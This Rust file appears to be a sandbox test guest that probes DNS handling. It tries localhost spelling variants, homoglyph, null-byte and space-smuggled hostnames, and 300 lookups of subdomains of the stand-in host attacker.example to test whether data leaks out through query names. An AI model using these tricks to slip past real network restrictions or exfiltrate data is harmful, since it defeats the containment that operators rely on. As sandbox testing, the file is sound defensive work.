//! Carries data out in names: three hundred of them, and spellings of the one that is granted.

use tollgate_test_guests::{Report, Scene, sockets};

const LABELS: usize = 300;

fn attempt(_: &Scene, report: &mut Report) {
    for name in [
        "localhost",
        "LOCALHOST.",
        "127.0.0.1",
        "[::1]",
        "127.1",
        "0x7f.0.0.1",
        "secret.localhost",
        "localhost..",
        "l\u{43e}calhost",
        "localhost\u{0}.attacker.example",
        "localhost attacker.example",
        "",
    ] {
        report.step(&format!("{name:?}"), sockets::look_up(name));
    }
    let long = "a".repeat(300);
    report.step("a long one", sockets::look_up(&long));
    let came = (0..LABELS).filter(|n| sockets::look_up(&format!("s{n}.attacker.example")).is_ok());
    report.say(format!("{} of {LABELS} were asked for", came.count()));
}

tollgate_test_guests::guest!(attempt);
